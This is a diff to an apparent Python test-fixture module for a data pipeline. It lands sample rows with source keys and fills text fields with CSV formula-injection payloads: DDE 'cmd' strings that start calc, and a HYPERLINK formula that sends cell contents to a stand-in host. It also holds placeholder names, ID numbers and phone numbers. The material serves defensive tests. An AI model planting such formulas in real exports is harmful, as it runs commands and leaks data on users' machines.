@@ -29,13 +29,18 @@ LINGANG = "lingang_platform"
 
 
 def land_rows(home: Path, catalog: Catalog, source: str, entity_name: str, window: str,
-              rows: list[dict[str, Any]]) -> str:
-    """Land ``rows`` (business fields; missing ones NULL; ``_is_deleted`` optional) as one ledgered batch."""
+              rows: list[dict[str, Any]], source_key: str | None = None) -> str:
+    """Land ``rows`` (business fields; missing ones NULL; ``_is_deleted`` optional) as one ledgered batch.
+
+    ``source_key``: the field whose value is each record's key in its source (the spec's
+    ``primary_key``); by default the business key, as ``add_lineage`` takes it.
+    """
     entity = get_entity(entity_name)
     schema = entity.arrow_schema(lineage=False).append(pa.field("_is_deleted", pa.bool_()))
     table = pa.Table.from_pylist([{f.name: r.get(f.name) for f in schema} for r in rows], schema=schema)
     bid = batch_id(source, entity_name, window)
-    landed = add_lineage(table, entity, source=source, batch_id=bid, extracted_at=datetime.now(UTC))
+    keys = pa.array([r[source_key] for r in rows], pa.string()) if source_key else None
+    landed = add_lineage(table, entity, source=source, batch_id=bid, extracted_at=datetime.now(UTC), source_key=keys)
     lake = Lake(home)
     path = lake.std_path(entity_name, source, date(2025, 6, 1), bid)
     with ParquetSink(path, entity.arrow_schema()) as sink:
@@ -78,9 +83,9 @@ class FeedHome:
     windows: int = 0
     expected: dict[str, Any] = field(default_factory=dict)
 
-    def land(self, source: str, entity: str, rows: list[dict[str, Any]]) -> None:
+    def land(self, source: str, entity: str, rows: list[dict[str, Any]], source_key: str | None = None) -> None:
         self.windows += 1
-        land_rows(self.home, self.catalog, source, entity, f"w{self.windows:04d}", rows)
+        land_rows(self.home, self.catalog, source, entity, f"w{self.windows:04d}", rows, source_key)
 
     def build(self) -> str:
         result = build(self.home, self.catalog)
@@ -101,5 +106,89 @@ def make_feed_home(home: Path, catalog: Catalog, projects: int = 30) -> FeedHome
                                     {**project(1, DISTRICTS[1]), "_is_deleted": True},
                                     {**project(2, DISTRICTS[2]), "_is_deleted": True}])
     fh.land(MUNICIPAL, "trainee", [{**trainee(3, DISTRICTS[0]), "_is_deleted": True}])
+    fh.build()
+    return fh
+
+
+# -- every dataset, with personal data, lists and spreadsheet formulas -------------------------------
+
+#: Personal data of the home below (trainees, teachers, talent-demand contacts): none of it may reach
+#: a key without the personal grant, in any form. 王小明's ID is the one issue #15 recovered.
+PEOPLE = (("王小明", "310112199910069205", "13912345678"), ("欧阳娜娜", "31011019980521002X", "13687654321"),
+          ("司马光明", "310115200102030013", "18600001111"), ("李雷", "310110199507070035", "13500002222"),
+          ("韩梅梅", "310112199612120048", "13700003333"), ("诸葛青云", "310115199301010051", "15900004444"))
+#: Text a spreadsheet would run as a formula if a CSV handed it over as it is (OWASP's six starts).
+FORMULAS = ('=HYPERLINK("http://example.invalid/?q="&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")
+
+
+def _value(entity: Any, name: str, dtype: pa.DataType, i: int, district: str) -> Any:
+    """A plausible value of one field for row ``i``: codes from the field's code list, unique ids."""
+    from schemas import CODE_LISTS
+
+    code_list = entity.field(name).code_list
+    if name == "district_code":
+        return district
+    if code_list is not None:
+        codes = list(CODE_LISTS[code_list].codes)
+        return codes[i % len(codes)]
+    if name == "project_id":
+        return f"P{i:05d}"
+    if pa.types.is_string(dtype):
+        return f"{entity.name}-{name}-{i}"
+    if pa.types.is_timestamp(dtype):
+        return datetime(2025, 3, 1, 8, 0, tzinfo=UTC) + timedelta(hours=i)
+    if pa.types.is_date(dtype):
+        return date(2025, 1, 1) + timedelta(days=i)
+    if pa.types.is_decimal(dtype):
+        return Decimal("1000.50") + i
+    if pa.types.is_integer(dtype):
+        return i
+    if pa.types.is_boolean(dtype):
+        return i % 2 == 0
+    raise AssertionError(f"no sample value for {entity.name}.{name} ({dtype})")
+
+
+def sample_rows(entity_name: str, count: int, **overrides: Any) -> list[dict[str, Any]]:
+    """``count`` rows of any entity, spread over DISTRICTS, every business field filled."""
+    entity = get_entity(entity_name)
+    rows = []
+    for i in range(count):
+        row = {f.name: _value(entity, f.name, f.type, i, DISTRICTS[i % len(DISTRICTS)]) for f in entity.business_fields}
+        rows.append({**row, **{k: v(i) if callable(v) else v for k, v in overrides.items()}})
+    return rows
+
+
+def make_every_dataset_home(home: Path, catalog: Catalog, rows: int = 6) -> FeedHome:
+    """Every dataset with rows in every district, built twice so each has changes and some deletes.
+
+    Trainees are keyed in their source on the ID number and teachers on the phone (the spec
+    mistake of issue #15), so ``_source_key`` holds personal data; the organisations that only
+    trainees mention inherit it. Text fields carry :data:`FORMULAS`; a budget is negative.
+    """
+    from schemas import ENTITIES
+
+    fh = FeedHome(home, catalog)
+    person = {"name": lambda i: PEOPLE[i % len(PEOPLE)][0], "id_number": lambda i: PEOPLE[i % len(PEOPLE)][1],
+              "phone": lambda i: PEOPLE[i % len(PEOPLE)][2]}
+    special: dict[str, dict[str, Any]] = {
+        "trainee": {**person, "school_name": lambda i: f"上海电子信息职院第{i}分校"},
+        "teacher": person,
+        "talent_demand": {"contact_name": person["name"], "phone": person["phone"]},
+        "project": {"title": lambda i: FORMULAS[i % len(FORMULAS)],
+                    "budget_amount": lambda i: Decimal("-3.50") if i == 1 else Decimal("125000.50") + i},
+        "notice": {"title": lambda i: FORMULAS[(i + 1) % len(FORMULAS)]},
+        "organization": {"address": lambda i: FORMULAS[(i + 2) % len(FORMULAS)]},
+    }
+    keyed_on = {"trainee": "id_number", "teacher": "phone"}
+    landed: dict[str, list[dict[str, Any]]] = {}
+    for name in ENTITIES:
+        landed[name] = sample_rows(name, rows, **special.get(name, {}))
+        fh.land(MUNICIPAL, name, landed[name], keyed_on.get(name))
+    fh.build()
+    for name in ("project", "trainee", "teacher", "talent_demand", "notice"):  # an update and a delete each
+        first, second = landed[name][0], landed[name][1]
+        fh.land(MUNICIPAL, name, [{**first, "updated_at": datetime(2025, 6, 1, tzinfo=UTC)},
+                                  {**second, "_is_deleted": True}], keyed_on.get(name))
     fh.build()
     return fh
